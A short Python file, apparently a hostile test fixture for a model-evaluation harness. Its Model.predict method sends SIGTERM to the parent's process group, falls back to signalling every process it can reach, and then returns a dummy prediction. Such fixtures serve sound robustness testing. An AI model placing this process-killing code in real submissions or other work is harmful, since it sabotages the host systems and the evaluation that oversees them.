"""It kills its group, and everybody whom it may signal."""

import os
import signal

from returns import Tracker


class Model(Tracker):
    def predict(self, asset):
        try:
            os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)
        except PermissionError:
            os.kill(0, signal.SIGTERM)
        return {"mean": 0.0, "scale": 1.0}
